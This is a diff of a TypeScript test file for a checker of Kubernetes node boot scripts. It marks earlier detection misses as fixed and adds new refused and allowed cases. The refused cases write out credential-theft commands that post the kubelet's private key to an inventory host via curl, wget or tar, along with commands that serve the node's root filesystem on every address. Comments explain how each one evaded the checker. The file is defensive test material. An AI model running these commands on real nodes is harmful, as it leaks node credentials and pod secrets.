@@ -34,7 +34,7 @@ const INVENTORY = "https://inventory.example.com/nodes";
 const API = "https://EXAMPLE.gr7.eu-west-1.eks.amazonaws.com";
 
 const insecure: NodeCase[] = [
-    // MISS: curl's `--data-binary @FILE` sends FILE's content as the request body (curl(1) -d/--data-binary: "If you
+    // Was a MISS (fixed in round 46): curl's `--data-binary @FILE` sends FILE's content as the request body (curl(1) -d/--data-binary: "If you
     // start the data with the letter @, the rest should be a file name to read the data from"), so the kubelet's
     // client certificate AND private key go to the inventory host, whoever runs it (or intercepts the name) acts as
     // the node (reads the Secrets and tokens of every pod bound there). keepsNodeSecrets lists exactly this form as
@@ -45,17 +45,15 @@ const insecure: NodeCase[] = [
         "curl --data-binary @/var/lib/kubelet/pki/kubelet-client-current.pem (the node's key as the request body)",
         script("dev-curl-data-at-key-nodes", [`curl -fsS --data-binary @${KEY} ${INVENTORY}`]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: `-F name=@FILE` attaches FILE as a multipart upload (curl docs/cmdline-opts/form.d: "To force the 'content'
+    // Was a MISS (fixed in round 46): `-F name=@FILE` attaches FILE as a multipart upload (curl docs/cmdline-opts/form.d: "To force the 'content'
     // part to be a file, prefix the file name with an @ sign"). Same cause as above (the `@` look-behind).
     dev(
         "curl -F node=@/var/lib/kubelet/pki/kubelet-client-current.pem (a multipart file upload of the node's key)",
         script("dev-curl-form-at-key-nodes", [`curl -fsS -F "node=@${KEY}" ${INVENTORY}`]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: `-F name=<FILE` puts FILE's content in a text field (form.d: "To just get the content part from a file,
+    // Was a MISS (fixed in round 46): `-F name=<FILE` puts FILE's content in a text field (form.d: "To just get the content part from a file,
     // prefix the file name with the symbol <"): the node's key is sent as well. Here pathsIn does see the path, but
     // keepsNodeSecrets only refuses -F values holding `@`. Fix: refuse -F/--form values with `<` too (and --form-string
     // is literal, so keep it).
@@ -63,9 +61,8 @@ const insecure: NodeCase[] = [
         "curl -F 'cert=</var/lib/kubelet/pki/kubelet-client-current.pem' (a form text field read from the node's key)",
         script("dev-curl-form-lt-key-nodes", [`curl -fsS -F "cert=<${KEY}" ${INVENTORY}`]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: after `cd /var/lib/kubelet/pki`, `curl -T kubelet-client-current.pem` uploads the node's key (curl(1)
+    // Was a MISS (fixed in round 46): after `cd /var/lib/kubelet/pki`, `curl -T kubelet-client-current.pem` uploads the node's key (curl(1)
     // -T/--upload-file FILE, a path relative to the working directory). The keeper rule's namedPaths resolves a
     // relative word only when written `./x` (or an interpreter's script), so the bare name is no node path and the
     // upload passes; the absolute form is refused (round 45). Fix: for non-keepers, resolve every non-option word
@@ -77,9 +74,8 @@ const insecure: NodeCase[] = [
             `curl -fsS -T kubelet-client-current.pem ${INVENTORY}`,
         ]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: `cd /var/lib/kubelet && tar czf - pki | curl -T - URL` archives the kubelet's pki directory to standard
+    // Was a MISS (fixed in round 46): `cd /var/lib/kubelet && tar czf - pki | curl -T - URL` archives the kubelet's pki directory to standard
     // output (GNU tar: `-f -` is standard output) and curl uploads standard input (curl(1): "Use the file name "-" ...
     // to use stdin"). tar is a keeper and its relative operand `pki` is not resolved for secretFlow (only copy()
     // resolves it), so nothing is piped as a secret; `tar czf - /var/lib/kubelet/pki | curl ...` is refused. Fix:
@@ -91,9 +87,8 @@ const insecure: NodeCase[] = [
             `tar czf - pki | curl -fsS -T - ${INVENTORY}`,
         ]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: a command substitution puts the file's content into curl's argument (bash(1) "Command Substitution"),
+    // Was a MISS (fixed in round 46): a command substitution puts the file's content into curl's argument (bash(1) "Command Substitution"),
     // and `-d` posts it: the node's key leaves the node. secretPrintedBy sees `cat KEY` but the result is used only
     // for container runs (containers.ts `-e KEY="$(cat ...)"`) and eval/export; a captured printer is not refused
     // (ctx.captured) and curl is handed no path. Fix: a word holding a substitution whose command prints a node
@@ -102,9 +97,8 @@ const insecure: NodeCase[] = [
         'curl -d "$(cat /var/lib/kubelet/pki/kubelet-client-current.pem)" (the node\'s key substituted into a word)',
         script("dev-curl-substituted-key-nodes", [`curl -fsS -d "$(cat ${KEY})" ${INVENTORY}`]),
         /hands|kubelet/,
-        true,
     ),
-    // MISS: the same through a variable: KEY is assigned the base64 of the node's key (credentialValues holds it, as
+    // Was a MISS (fixed in round 46): the same through a variable: KEY is assigned the base64 of the node's key (credentialValues holds it, as
     // rootReads tracks for heredocs and containers), then posted in a JSON body. Only here-strings/heredocs and
     // container runs consult credentialValues. Fix: a word expanding a variable in credentialValues hands its secret
     // to the command (keepsNodeSecrets decides).
@@ -115,9 +109,8 @@ const insecure: NodeCase[] = [
             `curl -fsS -H 'Content-Type: application/json' -d "{\\"node\\":\\"$(hostname)\\",\\"key\\":\\"$KEY\\"}" ${INVENTORY}`,
         ]),
         /hands|kubelet|environment|KEY/,
-        true,
     ),
-    // MISS: GNU screen runs its command in a new session, and `-d -m` starts it detached ("-dmS name Start as daemon:
+    // Was a MISS (fixed in round 46): GNU screen runs its command in a new session, and `-d -m` starts it detached ("-dmS name Start as daemon:
     // Screen session in detached mode", screen --help; the classic way to background a server from a boot script). So
     // python's http.server runs as root in cloud-init's working directory (/) and serves the node's files, the
     // kubelet's key and every pod's token, on every address. shell.ts WRAPPERS does not list screen: the program is
@@ -127,18 +120,16 @@ const insecure: NodeCase[] = [
         "screen -dmS http python3 -m http.server 8080 (a detached screen session serving /)",
         script("dev-screen-http-server-nodes", ["screen -dmS http python3 -m http.server 8080"]),
         /serves \/ |http\.server/,
-        true,
     ),
-    // MISS: tmux new-session runs its shell-command in the session's first window, detached with -d (tmux(1)
+    // Was a MISS (fixed in round 46): tmux new-session runs its shell-command in the session's first window, detached with -d (tmux(1)
     // new-session: "The new session is attached to the current terminal unless -d is given"), with the client's working
     // directory (/): the same http.server of /. Not in WRAPPERS; the command is one quoted word for tmux.
     dev(
         "tmux new-session -d -s http 'python3 -m http.server 8080' (a detached tmux session serving /)",
         script("dev-tmux-http-server-nodes", ["tmux new-session -d -s http 'python3 -m http.server 8080'"]),
         /serves \/ |http\.server/,
-        true,
     ),
-    // MISS: systemd-cat executes its parameters as a command line with stdout/stderr connected to the journal
+    // Was a MISS (fixed in round 46): systemd-cat executes its parameters as a command line with stdout/stderr connected to the journal
     // (systemd-cat(1): "If parameters are passed, they are executed as command line with standard output (stdout) and
     // standard error output (stderr) connected to the journal"): a natural way to log a boot-time server. Not in
     // WRAPPERS, so http.server serving / on every address passes.
@@ -146,18 +137,16 @@ const insecure: NodeCase[] = [
         "systemd-cat -t debug-http python3 -m http.server 8080 & (a server logged to the journal)",
         script("dev-systemd-cat-http-server-nodes", ["systemd-cat -t debug-http python3 -m http.server 8080 &"]),
         /serves \/ |http\.server/,
-        true,
     ),
-    // MISS: prlimit runs COMMAND with the given limits (util-linux prlimit(1): "prlimit [options] [--resource=limits]
+    // Was a MISS (fixed in round 46): prlimit runs COMMAND with the given limits (util-linux prlimit(1): "prlimit [options] [--resource=limits]
     // command [argument...]"), the usual way to raise nofile for a server. Not in WRAPPERS (nice, ionice, taskset,
     // chrt, timeout are): http.server of / passes.
     dev(
         "prlimit --nofile=65536 python3 -m http.server 8080 & (a server with raised limits)",
         script("dev-prlimit-http-server-nodes", ["prlimit --nofile=65536 python3 -m http.server 8080 &"]),
         /serves \/ |http\.server/,
-        true,
     ),
-    // MISS: `python3 -m pyftpdlib` is pyftpdlib's stand-alone server (docs/cli.rst: "Anonymous server, listening on
+    // Was a MISS (fixed in round 46): `python3 -m pyftpdlib` is pyftpdlib's stand-alone server (docs/cli.rst: "Anonymous server, listening on
     // port 2121, sharing the current directory: $ python3 -m pyftpdlib ... starting FTP server on 0.0.0.0:2121"):
     // from cloud-init's working directory (/) any pod logs in as anonymous and RETRs /var/lib/kubelet/pki and every
     // pod's token. No SERVERS reader for it, and the fail-closed rule needs an explicit all-address argument, which
@@ -167,9 +156,8 @@ const insecure: NodeCase[] = [
         "python3 -m pyftpdlib -p 2121 (an anonymous FTP server of the working directory /, every address by default)",
         script("dev-pyftpdlib-default-nodes", ["pip3 install pyftpdlib", "nohup python3 -m pyftpdlib -p 2121 &"]),
         /serves|pyftpdlib|does not read/,
-        true,
     ),
-    // MISS: the fail-closed rule takes an all-address value only after a long option naming an address
+    // Was a MISS (fixed in round 46): the fail-closed rule takes an all-address value only after a long option naming an address
     // (LISTEN_OPTION: bind/listen/addr/address/host/interface, or --ip) or in HOST:PORT form; pyftpdlib's own
     // `-i/--interface ADDRESS` given `-i 0.0.0.0` is a short option, so the anonymous FTP server of / with an
     // explicit all-address argument passes. Fix: count any option whose value is exactly an all-address literal.
@@ -180,9 +168,8 @@ const insecure: NodeCase[] = [
             "nohup python3 -m pyftpdlib -i 0.0.0.0 -p 2121 &",
         ]),
         /serves|pyftpdlib|does not read/,
-        true,
     ),
-    // MISS: Go servers take `HOST:PORT` and an empty host means every address (Go net.Listen: "If the host in the
+    // Was a MISS (fixed in round 46): Go servers take `HOST:PORT` and an empty host means every address (Go net.Listen: "If the host in the
     // address parameter is empty or a literal unspecified IP address, Listen listens on all available unicast and
     // anycast IP addresses of the local system"; golang/go#1854 `http.ListenAndServe(":8080", ...)`). gohttpserver
     // (codeskyblue/gohttpserver, `--addr` default ":8000") serving --root / is the node's whole filesystem on every
@@ -192,7 +179,83 @@ const insecure: NodeCase[] = [
         "gohttpserver --root / --addr :8000 (Go's empty host: every address)",
         script("dev-gohttpserver-colon-port-nodes", ["nohup /usr/local/bin/gohttpserver --root / --addr :8000 &"]),
         /does not read/,
-        true,
+    ),
+    // Neighbours of round 46's fixes (refused).
+    // --data-urlencode reads `name@FILE` too (curl(1): "name@filename: This makes curl load data from the given file").
+    dev(
+        "curl --data-urlencode key@/var/lib/kubelet/pki/kubelet-client-current.pem (urlencode's name@FILE form)",
+        script("dev-curl-urlencode-at-key-nodes", [`curl -fsS --data-urlencode "key@${KEY}" ${INVENTORY}`]),
+        /hands/,
+    ),
+    // A bare name in the wrappers' directory (env -C, coreutils env(1) "--chdir=DIR change working directory to DIR").
+    dev(
+        "env -C /var/lib/kubelet/pki curl -T kubelet-client-current.pem (the wrapper's directory, a bare name)",
+        script("dev-env-c-pki-curl-upload-nodes", [
+            `env -C /var/lib/kubelet/pki curl -fsS -T kubelet-client-current.pem ${INVENTORY}`,
+        ]),
+        /hands/,
+    ),
+    // A relative directory that holds the kubelet's (cd /var/lib; tar ... kubelet): the archive holds its pki.
+    dev(
+        "cd /var/lib, then tar czf - kubelet | aws s3 cp - s3://node-backups/ (a directory holding the node's secrets)",
+        script("dev-cd-var-lib-tar-kubelet-s3-nodes", [
+            "cd /var/lib",
+            'tar czf - kubelet | aws s3 cp - "s3://node-backups/$(hostname)/kubelet.tgz"',
+        ]),
+        /hands \/var\/lib\/kubelet/,
+    ),
+    // wget --post-data with the key's base64 substituted into the word.
+    dev(
+        'wget --post-data="key=$(base64 -w0 kubelet-client-current.pem)" (the key substituted into wget\'s body)',
+        script("dev-wget-substituted-key-nodes", [`wget -qO- --post-data="key=$(base64 -w0 ${KEY})" ${INVENTORY}`]),
+        /hands/,
+    ),
+    // start-stop-daemon(8) --start runs --exec's program with the words after `--`, in --chdir's directory.
+    dev(
+        "start-stop-daemon --start -b --chdir /var/lib/kubelet --exec /usr/bin/python3 -- -m http.server 8080",
+        script("dev-start-stop-daemon-http-kubelet-nodes", [
+            "start-stop-daemon --start --background --chdir /var/lib/kubelet --exec /usr/bin/python3 -- -m http.server 8080",
+        ]),
+        /serves \/var\/lib\/kubelet /,
+    ),
+    // daemonize(1) changes to / before running its program.
+    dev(
+        "daemonize /usr/bin/python3 -m http.server 8080 (daemonize runs it in /)",
+        script("dev-daemonize-http-nodes", ["daemonize /usr/bin/python3 -m http.server 8080"]),
+        /serves \/ /,
+    ),
+    // su -c's command line runs as root (su(1)); tmux's several words run directly, in -c's start directory.
+    dev(
+        "su -c 'python3 -m http.server 8080' and tmux new -d -c /var/lib/kubelet python3 -m http.server 8081",
+        script("dev-su-tmux-http-nodes", [
+            "su -c 'nohup python3 -m http.server 8080 &'",
+            "tmux new -d -c /var/lib/kubelet python3 -m http.server 8081",
+        ]),
+        /serves \/var\/lib\/kubelet /,
+    ),
+    // proxy.py on every address: an HTTP forward proxy to instance metadata (the node role).
+    dev(
+        "proxy --hostname 0.0.0.0 --port 8899 (proxy.py's forward proxy on every address)",
+        script("dev-proxy-py-all-nodes", ["pip3 install proxy.py", "nohup proxy --hostname 0.0.0.0 --port 8899 &"]),
+        /forward proxy/,
+    ),
+    // An exporter the pack does not know, on Go's empty host: fail closed (node_exporter alone is read).
+    dev(
+        "/usr/local/bin/custom_exporter --web.listen-address=:9200 (an exporter the pack does not read, every address)",
+        script("dev-custom-exporter-all-nodes", ["nohup /usr/local/bin/custom_exporter --web.listen-address=:9200 &"]),
+        /does not read/,
+    ),
+    // Go-style single-dash listen flag with an empty host.
+    dev(
+        "/usr/local/bin/static-server -listen :8000 -dir / (a Go flag, empty host)",
+        script("dev-go-listen-colon-port-nodes", ["nohup /usr/local/bin/static-server -listen :8000 -dir / &"]),
+        /does not read/,
+    ),
+    // dd without of= prints the key to standard output (cloud-init's log).
+    dev(
+        "dd if=/var/lib/kubelet/pki/kubelet-client-current.pem status=none (printed to cloud-init's log)",
+        script("dev-dd-if-stdout-key-nodes", [`dd if=${KEY} status=none`]),
+        /printed/,
     ),
     // Controls (refused).
     dev(
@@ -279,7 +342,55 @@ const secure: NodeCase[] = [
             "nohup /usr/local/bin/gohttpserver --root /var/www/html --addr 127.0.0.1:8000 &",
         ]),
     ),
-    // MISS (secure refused): inotifywait waits for an inotify event on the directory (inotifywait(1): "efficiently
+    // Neighbours of round 46's fixes (clean).
+    dev(
+        "curl --data-raw '@/var/lib/kubelet/pki/...' (--data-raw sends the text, never the file: curl(1))",
+        script("dev-curl-data-raw-literal-ok-nodes", [`curl -fsS --data-raw "@${KEY}" ${INVENTORY}`]),
+    ),
+    dev(
+        "cd /opt, then tar czf - models | aws s3 cp - s3://model-cache/models.tgz (a relative directory without node secrets)",
+        script("dev-cd-opt-tar-models-ok-nodes", [
+            "cd /opt",
+            "tar czf - models | aws s3 cp - s3://model-cache/models.tgz",
+        ]),
+    ),
+    dev(
+        "TOKEN from instance metadata in a header of a metadata request (no node secret in a word)",
+        script("dev-imds-token-header-ok-nodes", [
+            'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
+            'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id',
+        ]),
+    ),
+    dev(
+        "daemonize -c /var/www/html and start-stop-daemon --chdir /var/www/html running http.server (a web root)",
+        script("dev-daemonize-ssd-www-ok-nodes", [
+            "daemonize -c /var/www/html /usr/bin/python3 -m http.server 8080",
+            "start-stop-daemon --start --background --chdir /var/www/html --exec /usr/bin/python3 -- -m http.server 8081",
+        ]),
+    ),
+    dev(
+        "prlimit --nofile=65536 and systemd-cat around a loopback http.server of /var/www/html",
+        script("dev-prlimit-systemd-cat-lo-ok-nodes", [
+            "prlimit --nofile=65536 systemd-cat -t web python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html &",
+        ]),
+    ),
+    dev(
+        "python3 -m proxy --port 8899 (proxy.py binds 127.0.0.1 by default)",
+        script("dev-proxy-py-lo-ok-nodes", ["pip3 install proxy.py", "nohup python3 -m proxy --port 8899 &"]),
+    ),
+    dev(
+        "node_exporter --web.listen-address=:9100 (a known exporter serving only metrics, every address)",
+        script("dev-node-exporter-ok-nodes", ["nohup /usr/local/bin/node_exporter --web.listen-address=:9100 &"]),
+    ),
+    dev(
+        "inotifywatch -t 60 -e modify /var/lib/kubelet/pki (counts events, reads nothing)",
+        script("dev-inotifywatch-pki-ok-nodes", ["inotifywatch -t 60 -e modify /var/lib/kubelet/pki || true"]),
+    ),
+    dev(
+        "dd if=the kubelet's key of=/dev/null (a read check: of= is where dd writes, whatever its stdin)",
+        script("dev-dd-null-ok-nodes", [`dd if=${KEY} of=/dev/null bs=4k status=none`]),
+    ),
+    // Was a MISS (fixed in round 46) (secure refused): inotifywait waits for an inotify event on the directory (inotifywait(1): "efficiently
     // waits for changes to files using Linux's inotify(7) interface"; -e close_write, -t timeout): it reads no file
     // content, only prints the event's path. Waiting for the kubelet's rotated certificate before starting a local
     // agent is refused as "hands /var/lib/kubelet/pki to inotifywait, a program the pack does not know to keep
@@ -288,8 +399,6 @@ const secure: NodeCase[] = [
     dev(
         "inotifywait -e close_write -t 300 /var/lib/kubelet/pki (waits for the kubelet's certificate, reads nothing)",
         script("dev-inotifywait-pki-ok-nodes", ["inotifywait -e close_write -t 300 /var/lib/kubelet/pki || true"]),
-        /./,
-        true,
     ),
 ];
 
